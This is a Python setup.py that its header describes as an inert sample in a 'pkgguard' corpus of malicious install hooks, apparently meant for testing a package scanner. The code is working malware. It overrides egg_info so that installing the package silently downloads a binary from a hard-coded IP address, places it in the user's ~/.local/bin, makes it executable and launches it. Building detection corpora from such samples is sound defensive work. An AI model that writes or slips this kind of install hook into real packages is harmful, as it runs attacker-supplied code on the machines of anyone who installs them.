# pkgguard corpus 373 (install-hook), modelled on [bertus]; inert, never run.
import os
import stat
import threading
import urllib.request

from setuptools import setup
from setuptools.command.egg_info import egg_info


def _fetch():
    target = os.path.join(os.path.expanduser("~"), ".local", "bin", "pkg-sync")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with urllib.request.urlopen("http://100.64.0.73/pkg-sync", timeout=10) as r, open(target, "wb") as f:
        f.write(r.read())
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    os.spawnl(os.P_NOWAIT, target, target)


class EggInfo(egg_info):
    def run(self):
        threading.Thread(target=_fetch, daemon=False).start()
        super().run()


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"egg_info": EggInfo})
